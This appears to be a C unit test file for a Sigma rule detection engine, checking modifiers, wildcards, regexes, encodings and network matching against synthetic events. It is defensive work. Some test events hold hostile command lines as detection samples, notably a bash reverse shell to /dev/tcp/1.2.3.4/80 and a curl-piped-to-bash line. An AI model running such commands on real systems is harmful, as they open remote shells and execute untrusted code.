// SPDX-License-Identifier: MIT
/*
 * Sigma rules against the specification (../shared/sigma/spec): every modifier,
 * wildcard and condition form, each with matching and non-matching events, run
 * through both the Hyperscan matcher and the naive evaluator, which must agree with
 * the expected result. Plus every rejection path of the loader.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "detect/detect.h"
#include "detect/synth.h"
#include "ringfence/schema.h"

#define MAXKV 16

struct mcase {
	const char *what;
	const char *category; /* NULL: process_creation */
	const char *detection; /* lines under "detection:", unindented */
	unsigned class_id;     /* 0: process_exec */
	const char *kv[MAXKV]; /* event fields */
	int expect;            /* 1 match, 0 no match */
};

/* Default event fields unless a case overrides them. */
static char *mkrule(const char *category, const char *det, const char *id)
{
	char *out = malloc(16384), *p;
	const char *l = det;

	p = out + sprintf(out, "title: test rule\nid: %s\nlevel: high\ntags: [attack.t1059]\n"
			       "logsource:\n    product: linux\n    category: %s\ndetection:\n",
			  id, category ? category : "process_creation");
	while (*l) {
		const char *e = strchr(l, '\n');
		size_t n = e ? (size_t)(e - l) : strlen(l);
		p += sprintf(p, "    %.*s\n", (int)n, l);
		l += n + (e ? 1 : 0);
	}
	return out;
}

static int nkv(const char *const *kv)
{
	int n = 0;

	while (n < MAXKV && kv[n])
		n++;
	return n;
}

static void count_hit(const struct rf_detect_hit *h, const struct rf_event_hdr *ev, void *ctx)
{
	(void)h; (void)ev;
	(*(int *)ctx)++;
}

/* Compile RULE with MODE; returns the engine (asserting the rule compiled). */
static struct rf_detect *compile1(const char *rule, int mode, const char *what)
{
	struct rf_detect_report rep = {0};
	struct rf_detect *d = rf_detect_new();

	assert_non_null(d);
	assert_int_equal(rf_detect_load_buffer(d, "case.yml", rule, strlen(rule), &rep), 0);
	assert_int_equal(rf_detect_compile(d, mode, &rep), 0);
	if (rep.compiled != 1) {
		fprintf(stderr, "case '%s' did not compile: %s\n", what,
			rep.n ? rep.v[0].reason : "(no report)");
		fail_msg("case '%s' did not compile", what);
	}
	rf_detect_report_free(&rep);
	return d;
}

static int run_case(const struct mcase *c, int mode)
{
	static const char *const base[] = {"pid", "42", "ts_ns", "1000000000", NULL};
	unsigned char buf[8192];
	const char *kv[MAXKV + 8];
	char *rule = mkrule(c->category, c->detection, "11111111-2222-3333-4444-555555555555");
	struct rf_detect *d = compile1(rule, mode, c->what);
	int n = 0, k = nkv(c->kv), hits = 0, r, i;

	for (i = 0; base[i]; i++)
		kv[n++] = base[i];
	for (i = 0; i < k; i++)
		kv[n++] = c->kv[i];
	r = rf_detect_synth(buf, sizeof(buf), c->class_id ? c->class_id : RF_CLASS_PROCESS_EXEC, kv,
			    (unsigned)n);
	if (r < 0)
		fail_msg("case '%s': cannot build its event (%d)", c->what, r);
	r = rf_detect_event(d, (void *)buf, (size_t)r, count_hit, &hits);
	assert_true(r >= 0);
	rf_detect_free(d);
	free(rule);
	return hits;
}

#define EXE(v) "Image", v
#define CMD(v) "CommandLine", v

static const struct mcase cases[] = {
	/* plain values, case-insensitive by default */
	{"equal", NULL, "sel:\n    Image: /usr/bin/curl\ncondition: sel", 0, {EXE("/usr/bin/curl")}, 1},
	{"equal ignores case", NULL, "sel:\n    Image: /USR/bin/CURL\ncondition: sel", 0, {EXE("/usr/bin/curl")}, 1},
	{"equal is whole value", NULL, "sel:\n    Image: /usr/bin/cur\ncondition: sel", 0, {EXE("/usr/bin/curl")}, 0},
	{"value list is OR", NULL, "sel:\n    Image: [/bin/a, /usr/bin/curl]\ncondition: sel", 0, {EXE("/usr/bin/curl")}, 1},
	{"value list none", NULL, "sel:\n    Image: [/bin/a, /bin/b]\ncondition: sel", 0, {EXE("/usr/bin/curl")}, 0},
	{"map is AND", NULL, "sel:\n    Image: /usr/bin/curl\n    User: root\ncondition: sel", 0, {EXE("/usr/bin/curl"), "User", "root"}, 1},
	{"map is AND, one fails", NULL, "sel:\n    Image: /usr/bin/curl\n    User: root\ncondition: sel", 0, {EXE("/usr/bin/curl"), "User", "alice"}, 0},
	{"list of maps is OR", NULL, "sel:\n    - Image: /bin/x\n    - User: alice\ncondition: sel", 0, {EXE("/usr/bin/curl"), "User", "alice"}, 1},
	{"list of maps none", NULL, "sel:\n    - Image: /bin/x\n    - User: bob\ncondition: sel", 0, {EXE("/usr/bin/curl"), "User", "alice"}, 0},
	{"number on numeric field", NULL, "sel:\n    ProcessId: 42\ncondition: sel", 0, {EXE("/x")}, 1},
	{"number on numeric field, other", NULL, "sel:\n    ProcessId: 43\ncondition: sel", 0, {EXE("/x")}, 0},
	/* wildcards */
	{"star suffix", NULL, "sel:\n    Image: '*/curl'\ncondition: sel", 0, {EXE("/usr/bin/curl")}, 1},
	{"star middle", NULL, "sel:\n    Image: '/usr/*/curl'\ncondition: sel", 0, {EXE("/usr/local/bin/curl")}, 1},
	{"star middle none", NULL, "sel:\n    Image: '/usr/*/wget'\ncondition: sel", 0, {EXE("/usr/local/bin/curl")}, 0},
	{"star matches empty", NULL, "sel:\n    Image: '/usr/bin/curl*'\ncondition: sel", 0, {EXE("/usr/bin/curl")}, 1},
	{"question mark one char", NULL, "sel:\n    Image: '/usr/bin/c?rl'\ncondition: sel", 0, {EXE("/usr/bin/curl")}, 1},
	{"question mark exactly one", NULL, "sel:\n    Image: '/usr/bin/c?rl'\ncondition: sel", 0, {EXE("/usr/bin/crl")}, 0},
	{"escaped star is literal", NULL, "sel:\n    CommandLine: 'a\\*b'\ncondition: sel", 0, {CMD("a*b")}, 1},
	{"escaped star not wildcard", NULL, "sel:\n    CommandLine: 'a\\*b'\ncondition: sel", 0, {CMD("axb")}, 0},
	{"escaped question mark", NULL, "sel:\n    CommandLine: 'what\\?'\ncondition: sel", 0, {CMD("what?")}, 1},
	{"escaped question mark not wildcard", NULL, "sel:\n    CommandLine: 'what\\?'\ncondition: sel", 0, {CMD("whatx")}, 0},
	{"escaped backslash then star", NULL, "sel:\n    CommandLine: 'C:\\\\*'\ncondition: sel", 0, {CMD("C:\\Windows")}, 1},
	{"plain backslash kept", NULL, "sel:\n    CommandLine: 'a\\b'\ncondition: sel", 0, {CMD("a\\b")}, 1},
	{"three backslashes and star", NULL, "sel:\n    CommandLine: 'a\\\\\\*'\ncondition: sel", 0, {CMD("a\\*")}, 1},
	{"three backslashes: star literal", NULL, "sel:\n    CommandLine: 'a\\\\\\*'\ncondition: sel", 0, {CMD("a\\bc")}, 0},
	/* string modifiers */
	{"contains", NULL, "sel:\n    CommandLine|contains: 'tmp/x'\ncondition: sel", 0, {CMD("cp a /tmp/x.sh")}, 1},
	{"contains none", NULL, "sel:\n    CommandLine|contains: 'tmp/y'\ncondition: sel", 0, {CMD("cp a /tmp/x.sh")}, 0},
	{"contains ignores case", NULL, "sel:\n    CommandLine|contains: 'TMP/X'\ncondition: sel", 0, {CMD("cp a /tmp/x.sh")}, 1},
	{"startswith", NULL, "sel:\n    CommandLine|startswith: 'cp '\ncondition: sel", 0, {CMD("cp a /tmp/x.sh")}, 1},
	{"startswith none", NULL, "sel:\n    CommandLine|startswith: 'a '\ncondition: sel", 0, {CMD("cp a /tmp/x.sh")}, 0},
	{"endswith", NULL, "sel:\n    CommandLine|endswith: '.sh'\ncondition: sel", 0, {CMD("cp a /tmp/x.sh")}, 1},
	{"endswith none", NULL, "sel:\n    CommandLine|endswith: '.py'\ncondition: sel", 0, {CMD("cp a /tmp/x.sh")}, 0},
	{"endswith, earlier occurrence", NULL, "sel:\n    CommandLine|endswith: 'ab'\ncondition: sel", 0, {CMD("ab ab")}, 1},
	{"startswith, later occurrence only", NULL, "sel:\n    CommandLine|startswith: 'ab'\ncondition: sel", 0, {CMD("x ab")}, 0},
	/* anchored literals (the matcher walks them from their end: anchor.c) */
	{"endswith ignores case", NULL, "sel:\n    Image|endswith: '/CURL'\ncondition: sel", 0, {EXE("/usr/bin/curl")}, 1},
	{"endswith longer than the value", NULL, "sel:\n    Image|endswith: '/usr/bin/curl'\ncondition: sel", 0, {EXE("bin/curl")}, 0},
	{"endswith the whole value", NULL, "sel:\n    Image|endswith: '/usr/bin/curl'\ncondition: sel", 0, {EXE("/usr/bin/curl")}, 1},
	{"endswith|cased", NULL, "sel:\n    Image|endswith|cased: '/Curl'\ncondition: sel", 0, {EXE("/usr/bin/Curl")}, 1},
	{"endswith|cased, other case", NULL, "sel:\n    Image|endswith|cased: '/Curl'\ncondition: sel", 0, {EXE("/usr/bin/curl")}, 0},
	{"startswith|cased, other case", NULL, "sel:\n    CommandLine|startswith|cased: 'CP '\ncondition: sel", 0, {CMD("cp a")}, 0},
	{"startswith|cased and caseless on one prefix", NULL, "a:\n    CommandLine|startswith|cased: 'CP '\nb:\n    CommandLine|startswith: 'CP '\ncondition: b and not a", 0, {CMD("cp a")}, 1},
	{"equal is not endswith", NULL, "a:\n    Image|endswith: 'bin/curl'\nb:\n    Image: 'bin/curl'\ncondition: a and not b", 0, {EXE("/usr/bin/curl")}, 1},
	{"endswith|all along one path", NULL, "sel:\n    Image|endswith|all: ['/sh', 'bin/sh', '/usr/bin/sh']\ncondition: sel", 0, {EXE("/usr/bin/sh")}, 1},
	{"endswith|all along one path, one longer", NULL, "sel:\n    Image|endswith|all: ['/sh', 'bin/sh', '/usr/bin/sh']\ncondition: sel", 0, {EXE("/bin/sh")}, 0},
	{"startswith one byte", NULL, "sel:\n    CommandLine|startswith: 'c'\ncondition: sel", 0, {CMD("cp a")}, 1},
	{"startswith one byte, other", NULL, "sel:\n    CommandLine|startswith: 'x'\ncondition: sel", 0, {CMD("cp a")}, 0},
	{"endswith on an absent field", NULL, "sel:\n    ParentImage|endswith: '/sh'\ncondition: sel", 0, {EXE("/bin/sh")}, 0},
	/* lazy anchored literals on a field walked anyway (Image, by the trigger): their
	 * bits are read like a trigger's, also in bit groups and under not */
	{"lazy startswith on a walked field", NULL, "img:\n    Image|endswith: '/cp'\nloc:\n    Image|startswith: ['/usr/local/', '/opt/']\ncondition: img and loc", 0, {EXE("/usr/local/bin/cp")}, 1},
	{"lazy startswith on a walked field, other directory", NULL, "img:\n    Image|endswith: '/cp'\nloc:\n    Image|startswith: ['/usr/local/', '/opt/']\ncondition: img and loc", 0, {EXE("/usr/bin/cp")}, 0},
	{"lazy startswith on a walked field, under not", NULL, "img:\n    Image|endswith: '/cp'\nloc:\n    Image|startswith: ['/usr/local/', '/opt/']\ncondition: img and not loc", 0, {EXE("/opt/x/cp")}, 0},
	{"lazy startswith on a walked field, under not, other directory", NULL, "img:\n    Image|endswith: '/cp'\nloc:\n    Image|startswith: ['/usr/local/', '/opt/']\ncondition: img and not loc", 0, {EXE("/bin/cp")}, 1},
	{"lazy equality and startswith on a walked field in one 1 of", NULL, "img:\n    Image|endswith: '/cp'\nw1:\n    Image: '/opt/cp'\nw2:\n    Image|startswith: '/srv/'\ncondition: img and 1 of w*", 0, {EXE("/srv/a/cp")}, 1},
	{"lazy equality and startswith on a walked field in one 1 of, neither", NULL, "img:\n    Image|endswith: '/cp'\nw1:\n    Image: '/opt/cp'\nw2:\n    Image|startswith: '/srv/'\ncondition: img and 1 of w*", 0, {EXE("/opt/a/cp")}, 0},
	{"lazy endswith on a field absent from the event", NULL, "img:\n    Image|endswith: '/cp'\npar:\n    ParentImage|endswith: '/sh'\ncondition: img and not par", 0, {EXE("/bin/cp")}, 1},
	/* CommandLine is argv joined with spaces (16 bytes at a time, a tail as the last
	 * 16 bytes, values shorter than 16 a byte at a time) */
	{"CommandLine is argv joined, 17 bytes", NULL, "sel:\n    CommandLine: 'aaaaaaaaaaaaaaa b'\ncondition: sel", 0, {CMD("aaaaaaaaaaaaaaa\x1f" "b")}, 1},
	{"CommandLine is argv joined, 16 bytes", NULL, "sel:\n    CommandLine: 'aaaaaaa bbbbbbbb'\ncondition: sel", 0, {CMD("aaaaaaa\x1f" "bbbbbbbb")}, 1},
	{"CommandLine is argv joined, 31 bytes", NULL, "sel:\n    CommandLine: 'aaaaaaaaaaaaaaaa bbbbbbbbbbbb c'\ncondition: sel", 0, {CMD("aaaaaaaaaaaaaaaa\x1f" "bbbbbbbbbbbb\x1f" "c")}, 1},
	{"CommandLine is argv joined, 5 bytes", NULL, "sel:\n    CommandLine: 'ab cd'\ncondition: sel", 0, {CMD("ab\x1f" "cd")}, 1},
	{"CommandLine is argv joined", NULL, "sel:\n    CommandLine: 'a bb ccc dddd eeeee ffffff ggggggg hhhhhhhh iiiiiiiii j'\ncondition: sel", 0, {CMD("a\x1f" "bb\x1f" "ccc\x1f" "dddd\x1f" "eeeee\x1f" "ffffff\x1f" "ggggggg\x1f" "hhhhhhhh\x1f" "iiiiiiiii\x1f" "j")}, 1},
	{"CommandLine is argv joined, one byte less", NULL, "sel:\n    CommandLine: 'a bb ccc dddd eeeee ffffff ggggggg hhhhhhhh iiiiiiiii j'\ncondition: sel", 0, {CMD("a\x1f" "bb\x1f" "ccc\x1f" "dddd\x1f" "eeeee\x1f" "ffffff\x1f" "ggggggg\x1f" "hhhhhhhh\x1f" "iiiiiiii\x1f" "j")}, 0},
	{"CommandLine keeps an argument's spaces", NULL, "sel:\n    CommandLine: 'sh -c echo  a'\ncondition: sel", 0, {CMD("sh\x1f-c\x1f" "echo  a")}, 1},
	/* lazy contains (the Image trie triggers; CommandLine's literals are searched for
	 * directly, and scanned when a candidate asks about more than a few) */
	{"lazy contains ignores case", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'TMP/X'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp a /tmp/x.sh")}, 1},
	{"lazy contains, value in capitals", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'tmp/x'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("CP A /TMP/X.SH")}, 1},
	{"lazy contains none", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'tmp/y'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp a /tmp/x.sh")}, 0},
	{"lazy contains at the start", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'cp a'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp a /tmp/x.sh")}, 1},
	{"lazy contains at the end", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'x.sh'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp a /tmp/x.sh")}, 1},
	{"lazy contains the whole value", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'cp a /tmp/x.sh'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp a /tmp/x.sh")}, 1},
	{"lazy contains longer than the value", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'cp a /tmp/x.shx'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp a /tmp/x.sh")}, 0},
	{"lazy contains, its rarest byte seen before", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'qqz'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp qz qqqz")}, 1},
	{"lazy contains, near misses only", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains: 'qqz'\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp qz qqy zqq")}, 0},
	{"lazy contains|cased", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains|cased: ' -O '\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp -O x")}, 1},
	{"lazy contains|cased, other case", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains|cased: ' -O '\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp -o x")}, 0},
	{"lazy contains|all, more literals than are searched directly", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains|all: ['w01', 'w02', 'w03', 'w04', 'w05', 'w06', 'w07', 'w08', 'w09', 'w10', 'w11', 'w12', 'w13', 'w14', 'w15', 'w16', 'w17', 'w18', 'w19', 'w20']\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp w01 w02 w03 w04 w05 w06 w07 w08 w09 w10 w11 w12 w13 w14 w15 w16 w17 w18 w19 w20")}, 1},
	{"lazy contains|all, more literals than are searched directly, last missing", NULL, "img:\n    Image|endswith: '/usr/bin/cp'\ncmd:\n    CommandLine|contains|all: ['w01', 'w02', 'w03', 'w04', 'w05', 'w06', 'w07', 'w08', 'w09', 'w10', 'w11', 'w12', 'w13', 'w14', 'w15', 'w16', 'w17', 'w18', 'w19', 'w20']\ncondition: img and cmd", 0, {EXE("/usr/bin/cp"), CMD("cp w01 w02 w03 w04 w05 w06 w07 w08 w09 w10 w11 w12 w13 w14 w15 w16 w17 w18 w19")}, 0},
	{"contains with inner wildcard", NULL, "sel:\n    CommandLine|contains: 'curl*|*sh'\ncondition: sel", 0, {CMD("curl -s x | bash")}, 1},
	{"contains|all", NULL, "sel:\n    CommandLine|contains|all: [' -i', '/dev/tcp/']\ncondition: sel", 0, {CMD("bash -i >& /dev/tcp/1.2.3.4/80")}, 1},
	{"contains|all, one missing", NULL, "sel:\n    CommandLine|contains|all: [' -i', '/dev/udp/']\ncondition: sel", 0, {CMD("bash -i >& /dev/tcp/1.2.3.4/80")}, 0},
	{"cased", NULL, "sel:\n    CommandLine|contains|cased: ' -O '\ncondition: sel", 0, {CMD("wget -O x")}, 1},
	{"cased, other case", NULL, "sel:\n    CommandLine|contains|cased: ' -O '\ncondition: sel", 0, {CMD("wget -o x")}, 0},
	{"windash dash", NULL, "sel:\n    CommandLine|windash|contains: ' -enc '\ncondition: sel", 0, {CMD("x /enc y")}, 1},
	{"windash en dash", NULL, "sel:\n    CommandLine|windash|contains: ' -enc '\ncondition: sel", 0, {CMD("x \xe2\x80\x93" "enc y")}, 1},
	{"windash other char", NULL, "sel:\n    CommandLine|windash|contains: ' -enc '\ncondition: sel", 0, {CMD("x +enc y")}, 0},
	{"windash keeps path slashes", NULL, "sel:\n    CommandLine|windash|contains: 'a/b'\ncondition: sel", 0, {CMD("a-b")}, 0},
	/* regular expressions */
	{"re", NULL, "sel:\n    CommandLine|re: '\\s-[FTd]\\s'\ncondition: sel", 0, {CMD("curl -T x")}, 1},
	{"re is case-sensitive", NULL, "sel:\n    CommandLine|re: '\\s-[FTd]\\s'\ncondition: sel", 0, {CMD("curl -t x")}, 0},
	{"re|i", NULL, "sel:\n    CommandLine|re|i: 'CURL\\s+-[a-z]'\ncondition: sel", 0, {CMD("curl -t x")}, 1},
	{"re unanchored", NULL, "sel:\n    CommandLine|re: 'b.s'\ncondition: sel", 0, {CMD("xx bas yy")}, 1},
	/* regular expressions with required literals: prefiltered in the trigger scan (where
	 * their field is scanned anyway: five more literals on it) */
	{"re, prefiltered", NULL, "sel:\n    CommandLine|re: '--p(ay|ort)=\\d+'\nother:\n    CommandLine|contains: ['zq1', 'zq2', 'zq3', 'zq4', 'zq5']\ncondition: sel or other", 0, {CMD("nc --port=80 x")}, 1},
	{"re, prefiltered, literal without a match", NULL, "sel:\n    CommandLine|re: '--p(ay|ort)=\\d+'\nother:\n    CommandLine|contains: ['zq1', 'zq2', 'zq3', 'zq4', 'zq5']\ncondition: sel or other", 0, {CMD("nc --port=x80")}, 0},
	{"re, prefiltered, other case", NULL, "sel:\n    CommandLine|re: '--p(ay|ort)=\\d+'\nother:\n    CommandLine|contains: ['zq1', 'zq2', 'zq3', 'zq4', 'zq5']\ncondition: sel or other", 0, {CMD("nc --PORT=80")}, 0},
	{"re|i, prefiltered, other case", NULL, "sel:\n    CommandLine|re|i: '--p(ay|ort)=\\d+'\nother:\n    CommandLine|contains: ['zq1', 'zq2', 'zq3', 'zq4', 'zq5']\ncondition: sel or other", 0, {CMD("nc --PORT=80")}, 1},
	{"re, prefiltered, literal in another field", NULL, "sel:\n    CommandLine|re: '--p(ay|ort)=\\d+'\nother:\n    CommandLine|contains: ['zq1', 'zq2', 'zq3', 'zq4', 'zq5']\ncondition: sel or other", 0, {EXE("/x--port=80"), CMD("nc")}, 0},
	{"re, prefiltered, among literals", NULL, "sel:\n    CommandLine|re: '--p(ay|ort)=\\d+'\nlit:\n    CommandLine|contains: ['--pay', 'zz']\nother:\n    CommandLine|contains: ['zq1', 'zq2', 'zq3', 'zq4', 'zq5']\ncondition: (sel or other) and not lit", 0, {CMD("nc --port=80")}, 1},
	{"re, prefiltered, at the end", NULL, "sel:\n    CommandLine|re: 'x--pay=\\d$'\nother:\n    CommandLine|contains: ['zq1', 'zq2', 'zq3', 'zq4', 'zq5']\ncondition: sel or other", 0, {CMD("nc x--pay=1")}, 1},
	{"re anchors", NULL, "sel:\n    CommandLine|re: '^bas$'\ncondition: sel", 0, {CMD("xx bas yy")}, 0},
	{"re|m line anchors", NULL, "sel:\n    CommandLine|re|m: '^second$'\ncondition: sel", 0, {CMD("first\nsecond")}, 1},
	{"re without m", NULL, "sel:\n    CommandLine|re: '^second$'\ncondition: sel", 0, {CMD("first\nsecond")}, 0},
	{"re|s dot matches newline", NULL, "sel:\n    CommandLine|re|s: 'first.second'\ncondition: sel", 0, {CMD("first\nsecond")}, 1},
	{"re non-capturing group and repeat", NULL, "sel:\n    CommandLine|re: '(?:ab){2,3}c'\ncondition: sel", 0, {CMD("xababcx")}, 1},
	{"re repeat too short", NULL, "sel:\n    CommandLine|re: '(?:ab){3}c'\ncondition: sel", 0, {CMD("xababcx")}, 0},
	/* encodings */
	{"base64", NULL, "sel:\n    CommandLine|base64: 'hello'\ncondition: sel", 0, {CMD("aGVsbG8=")}, 1},
	{"base64 exact value", NULL, "sel:\n    CommandLine|base64: 'hello'\ncondition: sel", 0, {CMD("aGVsbG9=")}, 0},
	{"base64offset offset 0", NULL, "sel:\n    CommandLine|base64offset|contains: '/bin/bash'\ncondition: sel", 0, {CMD("echo L2Jpbi9iYXNo | base64 -d")}, 1},
	{"base64offset offset 1", NULL, "sel:\n    CommandLine|base64offset|contains: '/bin/bash'\ncondition: sel", 0, {CMD("echo eC9iaW4vYmFzaA== | base64 -d")}, 1},
	{"base64offset offset 2", NULL, "sel:\n    CommandLine|base64offset|contains: '/bin/bash'\ncondition: sel", 0, {CMD("echo eHgvYmluL2Jhc2g= | base64 -d")}, 1},
	{"base64offset none", NULL, "sel:\n    CommandLine|base64offset|contains: '/bin/bash'\ncondition: sel", 0, {CMD("echo L2Jpbi9zaA== | base64 -d")}, 0},
	/* existence and null */
	{"exists true", NULL, "sel:\n    CurrentDirectory|exists: true\ncondition: sel", 0, {"CurrentDirectory", "/tmp"}, 1},
	{"exists true, absent", NULL, "sel:\n    CurrentDirectory|exists: true\ncondition: sel", 0, {EXE("/x")}, 0},
	{"exists false, absent", NULL, "sel:\n    CurrentDirectory|exists: false\ncondition: sel", 0, {EXE("/x")}, 1},
	{"exists false, present", NULL, "sel:\n    CurrentDirectory|exists: false\ncondition: sel", 0, {"CurrentDirectory", "/tmp"}, 0},
	{"null, absent", NULL, "sel:\n    ParentImage: null\ncondition: sel", 0, {EXE("/x")}, 1},
	{"null, present", NULL, "sel:\n    ParentImage: null\ncondition: sel", 0, {"ParentImage", "/bin/sh"}, 0},
	{"null in a list", NULL, "sel:\n    ParentImage: [null, /bin/sh]\ncondition: sel", 0, {"ParentImage", "/bin/sh"}, 1},
	{"empty string equals empty", NULL, "sel:\n    User: ''\ncondition: sel", 0, {EXE("/x")}, 1},
	{"empty string, non-empty value", NULL, "sel:\n    User: ''\ncondition: sel", 0, {"User", "root"}, 0},
	/* numbers */
	{"lt", NULL, "sel:\n    ProcessId|lt: 43\ncondition: sel", 0, {EXE("/x")}, 1},
	{"lt equal", NULL, "sel:\n    ProcessId|lt: 42\ncondition: sel", 0, {EXE("/x")}, 0},
	{"lte", NULL, "sel:\n    ProcessId|lte: 42\ncondition: sel", 0, {EXE("/x")}, 1},
	{"lte below", NULL, "sel:\n    ProcessId|lte: 41\ncondition: sel", 0, {EXE("/x")}, 0},
	{"gt", NULL, "sel:\n    ProcessId|gt: 41\ncondition: sel", 0, {EXE("/x")}, 1},
	{"gt equal", NULL, "sel:\n    ProcessId|gt: 42\ncondition: sel", 0, {EXE("/x")}, 0},
	{"gte", NULL, "sel:\n    ProcessId|gte: 42\ncondition: sel", 0, {EXE("/x")}, 1},
	{"gte above", NULL, "sel:\n    ProcessId|gte: 43\ncondition: sel", 0, {EXE("/x")}, 0},
	{"neq", NULL, "sel:\n    User|neq: root\ncondition: sel", 0, {"User", "alice"}, 1},
	{"neq equal", NULL, "sel:\n    User|neq: root\ncondition: sel", 0, {"User", "root"}, 0},
	/* field references */
	{"fieldref", NULL, "sel:\n    ParentImage|fieldref: Image\ncondition: sel", 0, {EXE("/bin/sh"), "ParentImage", "/bin/sh"}, 1},
	{"fieldref differs", NULL, "sel:\n    ParentImage|fieldref: Image\ncondition: sel", 0, {EXE("/bin/sh"), "ParentImage", "/bin/bash"}, 0},
	{"fieldref|contains", NULL, "sel:\n    CommandLine|fieldref|contains: Image\ncondition: sel", 0, {EXE("/bin/sh"), CMD("exec /bin/sh -c x")}, 1},
	{"fieldref|endswith none", NULL, "sel:\n    CommandLine|fieldref|endswith: Image\ncondition: sel", 0, {EXE("/bin/sh"), CMD("exec /bin/sh -c x")}, 0},
	/* networks */
	{"cidr v4", "network_connection", "sel:\n    DestinationIp|cidr: 10.0.0.0/8\ncondition: sel", RF_CLASS_NET_CONNECT, {"DestinationIp", "10.1.2.3"}, 1},
	{"cidr v4 outside", "network_connection", "sel:\n    DestinationIp|cidr: 10.0.0.0/8\ncondition: sel", RF_CLASS_NET_CONNECT, {"DestinationIp", "11.1.2.3"}, 0},
	{"cidr v4 odd prefix", "network_connection", "sel:\n    DestinationIp|cidr: 172.16.0.0/12\ncondition: sel", RF_CLASS_NET_CONNECT, {"DestinationIp", "172.31.255.1"}, 1},
	{"cidr v4 odd prefix outside", "network_connection", "sel:\n    DestinationIp|cidr: 172.16.0.0/12\ncondition: sel", RF_CLASS_NET_CONNECT, {"DestinationIp", "172.32.0.1"}, 0},
	{"cidr v6", "network_connection", "sel:\n    DestinationIp|cidr: 'fe80::/10'\ncondition: sel", RF_CLASS_NET_CONNECT, {"DestinationIp", "fe80::1"}, 1},
	{"cidr v6 outside", "network_connection", "sel:\n    DestinationIp|cidr: '::1/128'\ncondition: sel", RF_CLASS_NET_CONNECT, {"DestinationIp", "::2"}, 0},
	{"ip equality", "network_connection", "sel:\n    DestinationIp: 127.0.0.1\ncondition: sel", RF_CLASS_NET_CONNECT, {"DestinationIp", "127.0.0.1"}, 1},
	{"port list", "network_connection", "sel:\n    DestinationPort: [4444, 1337]\n    Initiated: 'true'\ncondition: sel", RF_CLASS_NET_CONNECT, {"DestinationPort", "4444", "Initiated", "true"}, 1},
	/* bit groups of the flattened conditions: and, or, 1 of, all of over tests whose
	 * values are bits (atoms in several words of the bitset) */
	{"or over more than 64 values, the last one", NULL, "sel:\n    CommandLine|contains: ['v01', 'v02', 'v03', 'v04', 'v05', 'v06', 'v07', 'v08', 'v09', 'v10', 'v11', 'v12', 'v13', 'v14', 'v15', 'v16', 'v17', 'v18', 'v19', 'v20', 'v21', 'v22', 'v23', 'v24', 'v25', 'v26', 'v27', 'v28', 'v29', 'v30', 'v31', 'v32', 'v33', 'v34', 'v35', 'v36', 'v37', 'v38', 'v39', 'v40', 'v41', 'v42', 'v43', 'v44', 'v45', 'v46', 'v47', 'v48', 'v49', 'v50', 'v51', 'v52', 'v53', 'v54', 'v55', 'v56', 'v57', 'v58', 'v59', 'v60', 'v61', 'v62', 'v63', 'v64', 'v65', 'v66', 'v67', 'v68', 'v69', 'v70']\ncondition: sel", 0, {CMD("x v70 y")}, 1},
	{"or over more than 64 values, none", NULL, "sel:\n    CommandLine|contains: ['v01', 'v02', 'v03', 'v04', 'v05', 'v06', 'v07', 'v08', 'v09', 'v10', 'v11', 'v12', 'v13', 'v14', 'v15', 'v16', 'v17', 'v18', 'v19', 'v20', 'v21', 'v22', 'v23', 'v24', 'v25', 'v26', 'v27', 'v28', 'v29', 'v30', 'v31', 'v32', 'v33', 'v34', 'v35', 'v36', 'v37', 'v38', 'v39', 'v40', 'v41', 'v42', 'v43', 'v44', 'v45', 'v46', 'v47', 'v48', 'v49', 'v50', 'v51', 'v52', 'v53', 'v54', 'v55', 'v56', 'v57', 'v58', 'v59', 'v60', 'v61', 'v62', 'v63', 'v64', 'v65', 'v66', 'v67', 'v68', 'v69', 'v70']\ncondition: sel", 0, {CMD("x v71 y")}, 0},
	{"and of two numeric tests", "network_connection", "a:\n    DestinationPort|gt: 1000\nb:\n    DestinationPort|lt: 2000\ncondition: a and b", RF_CLASS_NET_CONNECT, {"DestinationPort", "1500"}, 1},
	{"and of two numeric tests, one false", "network_connection", "a:\n    DestinationPort|gt: 1000\nb:\n    DestinationPort|lt: 2000\ncondition: a and b", RF_CLASS_NET_CONNECT, {"DestinationPort", "2500"}, 0},
	{"all of numeric tests", "network_connection", "x1:\n    DestinationPort|gt: 1000\nx2:\n    DestinationPort|lt: 2000\nx3:\n    DestinationPort|gte: 1500\ncondition: all of x*", RF_CLASS_NET_CONNECT, {"DestinationPort", "1500"}, 1},
